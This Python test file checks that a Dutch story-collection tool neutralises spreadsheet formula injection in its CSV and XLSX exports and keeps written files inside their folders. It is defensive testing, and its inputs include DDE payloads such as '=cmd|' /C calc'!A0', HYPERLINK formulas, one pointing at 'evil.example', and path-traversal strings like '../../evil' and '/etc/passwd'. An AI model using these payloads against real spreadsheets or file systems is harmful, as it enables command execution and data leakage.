"""Output safety: user text never becomes a spreadsheet formula, nor a path outside its folder.

One project is built per module whose titles, story texts, storytellers, sessions, answers and
perspective names look like formulas (`=`, `+`, `-`, `@`, `=HYPERLINK(…)`, `=cmd|…` DDE) or like
paths (`../../evil`, `/etc/passwd`, `..\\x`, `CON`); a clustering run is stored through the
Store API instead of real clustering. Every CSV and XLSX the tool writes is read back: in XLSX no
cell is a formula and the text is the text typed; in CSV such text carries a leading quote. The
command line writes its report, workshop material and exports only inside their folders.
"""

from __future__ import annotations

import csv
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from support import fake_run, ingest_ok
from typer.testing import CliRunner

from verhalen.cli.app import app
from verhalen.demo import example_folder
from verhalen.errors import RejectedBatch
from verhalen.ingest import ingest
from verhalen.project import FORM_NAME, Project, init_project
from verhalen.safe import FORMULA_START, csv_value, set_xlsx_cell

EXAMPLE = example_folder()  # src/verhalen/voorbeeld, the example shipped with the package

TELLERS = [
    ("=V1", "inwoner"),
    ("+V2", "ambtenaar"),
    ("-V3", "inwoner"),
    ("@V4", "ambtenaar"),
    ("../V5", "inwoner"),
]
SESSIONS = ["=sessie(1)", "@sessie 2", "../../sessie"]
TITLES = {
    1: "=1+1",
    2: '=HYPERLINK("http://example.org/?q="&A1,"klik")',
    3: '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    4: "@SUM(1,2)",
    5: "-min",
    6: "+plus",
    7: "../../titel",
    8: "CON",
}
TEXTS = {
    1: "=cmd|' /C calc'!A0 stond in de mail over de brug.",
    2: "+31 6 1234 5678 belde ons terug.",
    3: "-2 graden en de brug was glad.",
    4: "@gemeente reageerde snel.",
    5: '=HYPERLINK("http://example.org","klik") zei de buurman.',
}
NOTES = {1: "=1+2 toelichting", 2: "-toelichting", 3: "@toelichting", 4: "+toelichting"}
PERSPECTIVES = {
    1: ('=HYPERLINK("http://evil.example","p1")', "=1+1 beschrijving"),
    2: ("@perspectief", "-beschrijving"),
    3: ("-min perspectief", "+beschrijving"),
    4: ("../../evil", "/etc/passwd"),
    5: ("/etc/passwd", "..\\..\\x"),
    6: ("..\\x CON " + "lang " * 60, "NUL"),
}
WORDS = {
    1: "het formulier en het loket en de regels",
    2: "de buren en de koffie in de straat",
    3: "de training in de kring met de trainer",
    4: "de bus en de halte en het rooster",
    5: "de bibliotheek en de boeken op zaterdag",
    6: "het plein en het feest met muziek",
}
OUTCOME = {1: "slecht", 2: "goed", 3: "gemengd", 4: "slecht", 5: "goed", 6: "gemengd"}
STORIES = 36


def perspective_of(i: int) -> int:
    return 1 + (i - 1) % 6


def build_project(root: Path) -> Project:
    root.mkdir(parents=True)
    shutil.copy(EXAMPLE / FORM_NAME, root / FORM_NAME)
    project = init_project(root, template="programma", name="=Proefproject")
    with (root / "vertellers.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "naam", "rol"])
        w.writerows([(tid, f"Naam {k}", role) for k, (tid, role) in enumerate(TELLERS)])
    with (root / "verhalen.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["titel", "verhaal", "verteller", "sessie", "afloop", "gevoel", "toelichting"])
        for i in range(1, STORIES + 1):
            n = perspective_of(i)
            text = f"{TEXTS.get(i, '')} Verhaal {i} gaat over {WORDS[n]}.".strip()
            w.writerow(
                [
                    TITLES.get(i, f"Verhaal {i}"),
                    text,
                    TELLERS[i % len(TELLERS)][0],
                    SESSIONS[i % len(SESSIONS)],
                    OUTCOME[n],
                    10 + 12 * n + i % 5,
                    NOTES.get(i, ""),
                ]
            )
    ingest_ok(project, [root / "verhalen.csv"], storytellers_file=root / "vertellers.csv")
    fields = {
        n: {"label": f"+label{n} · =term", "terms": ["=term", "+x"], "name": name, "description": d}
        for n, (name, d) in PERSPECTIVES.items()
    }
    with project.store() as store, store.transaction():
        n_stories = len(store.stories())
        fake_run(store, [perspective_of(i) for i in range(1, n_stories + 1)], fields)
    return Project.open(root)


@dataclass
class Made:
    base: Path
    project: Project
    before: set[Path]
    after: set[Path]
    outputs: dict[str, Path]
    results: list


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """Every file the command line writes from this project, written once."""
    base = tmp_path_factory.mktemp("uitvoer")
    project = build_project(base / "deep" / "er" / "p")
    root = project.root
    before = files_under(base)
    runner = CliRunner()
    commands = [
        ["report", "--format", "xlsx"],  # the PDF is test_report.py's; it takes seconds
        ["workshop", "cards"],
        ["workshop", "sheets"],
        ["workshop", "template"],
        ["stories", "export", "--out", str(root / "export" / "verhalen.csv")],
        ["stories", "export", "--out", str(root / "export" / "verhalen.xlsx")],
    ]
    results = [runner.invoke(app, ["--project", str(root), *c]) for c in commands]
    return Made(
        base,
        project,
        before,
        files_under(base),
        {
            "report": root / "rapport" / "catalysisrapport.xlsx",
            "template": root / "workshop" / "resultaten.xlsx",
            "csv": root / "export" / "verhalen.csv",
            "xlsx": root / "export" / "verhalen.xlsx",
        },
        results,
    )


# -- formulas --------------------------------------------------------------------------------------

NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def xlsx_strings(path: Path) -> list[str]:
    """Every text cell of every sheet; fails on any formula cell."""
    texts = []
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
    return texts


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_csv_cells_are_inert(cells: list[str]) -> None:
    for cell in cells:
        if NUMBER.fullmatch(cell):
            continue  # a number is read as a number, never as a formula
        assert not cell.lstrip(" ").startswith(FORMULA_START), f"live formula in CSV: {cell!r}"


def test_commands_succeed(made: Made) -> None:
    for result in made.results:
        assert result.exit_code == 0, result.output + result.stderr


def test_stories_csv_export_quotes_every_formula(made: Made) -> None:
    cells = csv_cells(made.outputs["csv"])

    assert_csv_cells_are_inert(cells)
    for title in TITLES.values():
        expected = "'" + title if title.startswith(FORMULA_START) else title
        assert expected in cells
    for i, text in TEXTS.items():
        assert any(c.startswith("'" + text) and f"Verhaal {i} " in c for c in cells)
    for teller, _ in TELLERS[:4]:
        assert "'" + teller in cells
    assert {"'=sessie(1)", "'@sessie 2", "../../sessie"} <= set(cells)
    assert {"'" + note for note in NOTES.values()} <= set(cells)


def test_stories_xlsx_export_keeps_formulas_as_text(made: Made) -> None:
    book = load_workbook(made.outputs["xlsx"])
    sheet = book.active
    header = [c.value for c in sheet[1]]
    rows = {r[0].value: {h: c for h, c in zip(header, r, strict=True)} for r in sheet.iter_rows(2)}

    xlsx_strings(made.outputs["xlsx"])  # no formula anywhere
    for i, title in TITLES.items():
        assert rows[i]["title"].value == title
    for i, text in TEXTS.items():
        assert rows[i]["text"].value == f"{text} Verhaal {i} gaat over {WORDS[perspective_of(i)]}."
    for i, note in NOTES.items():
        assert rows[i]["toelichting"].value == note
    assert {r["storyteller"].value for r in rows.values()} == {t for t, _ in TELLERS}
    assert {r["session"].value for r in rows.values()} == set(SESSIONS)
    assert rows[1]["perspective"].value == f"1. {PERSPECTIVES[1][0]}"


def test_report_xlsx_keeps_formulas_as_text(made: Made) -> None:
    texts = xlsx_strings(made.outputs["report"])

    for title in TITLES.values():
        assert title in texts
    for teller, _ in TELLERS:
        assert teller in texts
    for name, description in PERSPECTIVES.values():
        assert name in texts and description in texts
    assert set(SESSIONS) <= set(texts)
    assert "+label1 · =term" in texts and "=term, +x" in texts
    assert "=Proefproject" in texts  # the project's name on the configuration sheet
    for i, text in TEXTS.items():
        assert any(t.startswith(text) and f"Verhaal {i} " in t for t in texts)


def test_workshop_template_keeps_perspective_names_as_text(made: Made) -> None:
    sheet = load_workbook(made.outputs["template"])["perspectieven"]
    rows = [tuple(c.value for c in row) for row in sheet.iter_rows(2)]

    xlsx_strings(made.outputs["template"])
    assert rows == [(n, name, description) for n, (name, description) in PERSPECTIVES.items()]


def test_pseudonymisation_review_sheet_keeps_terms_as_text(tmp_path: Path) -> None:
    from verhalen.review_sheet import Occurrence, PseudonymReport, write_review

    tricky = ["=Jan", "+31 6 1234 5678", "-Piet", "@anja", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
    report = PseudonymReport(
        stories=1,
        changed=1,
        occurrences=[
            Occurrence(k + 1, term, "text", "person", term, "[PERSOON-1]", f"{term} zei dat")
            for k, term in enumerate(tricky)
        ],
    )
    path = tmp_path / "pseudonimisering.xlsx"

    write_review(report, path)

    texts = xlsx_strings(path)
    for term in tricky:
        assert texts.count(term) == 2  # the title and the term columns
        assert f"{term} zei dat" in texts


def test_rejects_csv_quotes_file_names_that_look_like_formulas(project, tmp_path):
    names = ["=1+1.txt", "@SUM(1,2).txt", "+31.txt", "-x.txt", "=cmd|' -c calc'!A0.txt"]
    for name in names:
        text = f"Verteller: Niemand\n\nVerhaal uit {name}.\n"
        (project.root / name).write_text(text, encoding="utf-8")
    (project.root / "goed.txt").write_text("Een goed verhaal.\n", encoding="utf-8")
    rejects = tmp_path / "afgewezen.csv"

    report = ingest(project, [project.root], skip_invalid=True, rejects_path=rejects)

    assert len(report.stored) == 1
    cells = csv_cells(rejects)
    assert_csv_cells_are_inert(cells)
    for name in names:
        assert "'" + name in cells
    assert cells.count("onbekende verteller 'Niemand'") == len(names)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.org","klik")',
        "=cmd|' /C calc'!A0",
        "+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
    ],
)
def test_csv_and_xlsx_helpers_neutralise_every_formula_start(text, tmp_path):
    assert csv_value(text) == "'" + text
    book = Workbook()
    cell = set_xlsx_cell(book.active, 1, 1, text)
    assert cell.data_type == "s"
    book.save(tmp_path / "x.xlsx")
    [[back]] = load_workbook(tmp_path / "x.xlsx").active.iter_rows()
    assert (back.value, back.data_type) == (text, "s")


def test_helpers_leave_plain_text_and_numbers_alone(tmp_path):
    assert csv_value("Een verhaal = mooi") == "Een verhaal = mooi"
    assert csv_value(-5) == -5
    assert csv_value(None) is None
    book = Workbook()
    assert set_xlsx_cell(book.active, 1, 1, -5).data_type == "n"


def test_xlsx_cell_with_control_characters_is_written_not_refused(tmp_path):
    # openpyxl raises IllegalCharacterError for these; an export must not fail on one story
    book = Workbook()
    set_xlsx_cell(book.active, 1, 1, "=1\x00+\x1b[2J1\x0b")
    book.save(tmp_path / "x.xlsx")
    [[back]] = load_workbook(tmp_path / "x.xlsx").active.iter_rows()
    assert (back.value, back.data_type) == ("=1+[2J1", "s")


# -- paths -----------------------------------------------------------------------------------------


def test_commands_write_only_inside_their_folders(made: Made) -> None:
    root = made.project.root
    written = made.after - made.before

    assert {p.relative_to(root).as_posix() for p in written} == {
        "rapport/catalysisrapport.xlsx",
        "workshop/verhaalkaarten.pdf",
        "workshop/perspectiefbladen.pdf",
        "workshop/resultaten.xlsx",
        "export/verhalen.csv",
        "export/verhalen.xlsx",
    }
    for folder in [root, *root.parents][:6]:  # nothing escaped upwards either
        assert not [p for p in folder.iterdir() if "evil" in p.name or "passwd" in p.name]


def test_rejected_ingest_writes_no_rejects_file(project):
    (project.root / "fout.txt").write_text("Verteller: Niemand\n\nTekst.\n", encoding="utf-8")

    with pytest.raises(RejectedBatch):
        ingest(project, [project.root / "fout.txt"])

    assert not (project.root / "afgewezen.csv").exists()
